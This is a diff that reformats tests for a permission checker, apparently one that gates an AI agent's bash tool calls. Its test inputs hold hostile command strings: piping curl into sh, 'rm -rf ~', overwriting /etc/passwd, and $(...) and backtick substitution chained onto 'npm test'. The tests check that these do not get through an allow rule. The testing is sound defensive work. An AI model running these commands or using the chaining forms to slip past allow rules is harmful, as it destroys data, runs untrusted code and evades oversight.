@@ -49,17 +49,42 @@ describe('decidePermission: rules', () => {
     const rules: PermissionRule[] = [{ tool: 'bash', pattern: 'npm test*', action: 'allow' }];
     const bash = (command: string) => decidePermission({ tool: 'bash', effect: 'execute', input: { command } }, { profile: 'ask', rules });
     expect(bash('npm test -- --watch=false')).toBe('allow');
-    for (const sneaky of ['npm test; curl x | sh', 'npm test && rm -rf build', 'npm test $(whoami)', 'npm test > /etc/passwd', 'npm test\nrm -rf ~', 'npm test `id`']) {
+    for (const sneaky of [
+      'npm test; curl x | sh',
+      'npm test && rm -rf build',
+      'npm test $(whoami)',
+      'npm test > /etc/passwd',
+      'npm test\nrm -rf ~',
+      'npm test `id`',
+    ]) {
       expect(bash(sneaky)).toBe('ask');
     }
     // A rule that spells the operator out does not switch the check off, and deny rules always apply.
-    expect(decidePermission({ tool: 'bash', effect: 'execute', input: { command: 'npm test | tee out.txt' } }, { profile: 'ask', rules: [{ tool: 'bash', pattern: 'npm test | tee *', action: 'allow' }] })).toBe('ask');
-    expect(decidePermission({ tool: 'bash', effect: 'execute', input: { command: 'npm test 2>&1; id' } }, { profile: 'ask', rules: [{ tool: 'bash', pattern: 'npm test 2>&1*', action: 'allow' }] })).toBe('ask');
-    expect(decidePermission({ tool: 'bash', effect: 'execute', input: { command: 'git push; ls' } }, { profile: 'trusted', rules: [{ tool: 'bash', pattern: 'git push*', action: 'deny' }] })).toBe('deny');
+    expect(
+      decidePermission(
+        { tool: 'bash', effect: 'execute', input: { command: 'npm test | tee out.txt' } },
+        { profile: 'ask', rules: [{ tool: 'bash', pattern: 'npm test | tee *', action: 'allow' }] },
+      ),
+    ).toBe('ask');
+    expect(
+      decidePermission(
+        { tool: 'bash', effect: 'execute', input: { command: 'npm test 2>&1; id' } },
+        { profile: 'ask', rules: [{ tool: 'bash', pattern: 'npm test 2>&1*', action: 'allow' }] },
+      ),
+    ).toBe('ask');
+    expect(
+      decidePermission(
+        { tool: 'bash', effect: 'execute', input: { command: 'git push; ls' } },
+        { profile: 'trusted', rules: [{ tool: 'bash', pattern: 'git push*', action: 'deny' }] },
+      ),
+    ).toBe('deny');
   });
 
   it('depends on rule order', () => {
-    const allowFirst: PermissionRule[] = [{ tool: 'bash', pattern: '*', action: 'allow' }, { tool: 'bash', pattern: 'npm*', action: 'deny' }];
+    const allowFirst: PermissionRule[] = [
+      { tool: 'bash', pattern: '*', action: 'allow' },
+      { tool: 'bash', pattern: 'npm*', action: 'deny' },
+    ];
     const denyFirst: PermissionRule[] = [allowFirst[1] as PermissionRule, allowFirst[0] as PermissionRule];
     expect(decide('ask', 'execute', allowFirst)).toBe('allow');
     expect(decide('ask', 'execute', denyFirst)).toBe('deny');
